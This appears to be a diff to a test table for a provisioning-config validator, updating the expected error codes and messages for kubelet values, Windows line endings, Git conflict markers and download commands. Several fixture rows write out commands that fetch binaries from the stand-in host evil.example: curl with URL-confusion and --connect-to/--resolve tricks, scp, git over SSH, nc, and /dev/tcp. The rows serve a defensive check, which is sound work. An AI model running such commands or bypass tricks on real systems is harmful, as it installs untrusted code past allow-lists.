@@ -240,7 +240,7 @@ const ROWS: readonly Row[] = [
   ],
 
   // What the kubelet refuses
-  ['an O in a number of pods', 'OSM0502', /Write "11"/, [builtIns, kubelet('MaxPods', '11O')]],
+  ['an O in a number of pods', 'OSM0502', /such as "110"/, [builtIns, kubelet('MaxPods', '11O')]],
   ['no pods', 'OSM0242', /110/, [builtIns, kubelet('MaxPods', '0')]],
   ['megabytes in a threshold', 'OSM0242', /100M/, [builtIns, kubelet('EvictionHard', 'memory.available<100MB')]],
   ['a colon in what is reserved', 'OSM0242', /cpu=200m/, [builtIns, kubelet('KubeReserved', 'cpu:200m,memory=300Mi')]],
@@ -339,13 +339,13 @@ const ROWS: readonly Row[] = [
   [
     'a script with the line ends of Windows',
     'OSM0610',
-    /encoding b64/,
+    /LF line ends/,
     file('/opt/bin/setup', CRLF('#!/bin/bash\necho a\n'), { mode: 755 }),
   ],
   [
     'a unit with the line ends of Windows',
     'OSM0610',
-    /encoding b64/,
+    /LF line ends/,
     unit('agent.service', CRLF(`${SERVICE}[Install]\nWantedBy=multi-user.target\n`)),
   ],
   ['a tab in YAML', 'OSM0007', /tab/i, pool('      versions:\n        kubelet', '      versions:\n\tkubelet')],
@@ -360,7 +360,7 @@ const ROWS: readonly Row[] = [
   ],
   [
     'a conflict of Git in a script',
-    'OSM0630 OSM0636',
+    'OSM0630',
     /conflict/,
     script('<<<<<<< HEAD', 'echo a', '=======', 'echo b', '>>>>>>> b'),
   ],
@@ -458,7 +458,7 @@ const ROWS: readonly Row[] = [
   ],
   [
     'an API server of a private network without noProxy',
-    undefined,
+    'OSM0113',
     /10\.1\.2\.3/,
     [
       builtIns,
@@ -561,26 +561,26 @@ const ROWS: readonly Row[] = [
   ],
   [
     'a backslash before another host',
-    undefined,
+    'OSM0653',
     /evil\.example/,
     allowing("curl -fLO 'https://mirror.example.com\\@evil.example/a'"),
   ],
   [
     '--connect-to',
-    undefined,
-    /evil\.example/,
+    'OSM0654',
+    /--connect-to/,
     allowing('curl -fLO --connect-to ::evil.example:443 https://mirror.example.com/a'),
   ],
   [
     '--resolve',
-    undefined,
-    /192\.0\.2\.1/,
+    'OSM0654',
+    /--resolve/,
     allowing('curl -fLO --resolve mirror.example.com:443:192.0.2.1 https://mirror.example.com/a'),
   ],
-  ['scp', undefined, /evil\.example/, allowing('scp ops@evil.example:/agent /opt/bin/agent')],
-  ['a clone by SSH', undefined, /evil\.example/, allowing('git clone git@evil.example:agent.git /opt/agent')],
-  ['nc', undefined, /evil\.example/, allowing('nc evil.example 80 >/opt/bin/agent')],
-  ['/dev/tcp', undefined, /evil\.example/, allowing('cat </dev/tcp/evil.example/80 >/opt/bin/agent')],
+  ['scp', 'OSM0654', /with scp/, allowing('scp ops@evil.example:/agent /opt/bin/agent')],
+  ['a clone by SSH', 'OSM0654', /with git/, allowing('git clone git@evil.example:agent.git /opt/agent')],
+  ['nc', 'OSM0654', /with nc/, allowing('nc evil.example 80 >/opt/bin/agent')],
+  ['/dev/tcp', 'OSM0654', /dev\/tcp/, allowing('cat </dev/tcp/evil.example/80 >/opt/bin/agent')],
   [
     'a URL from a variable of the node',
     'OSM0654',
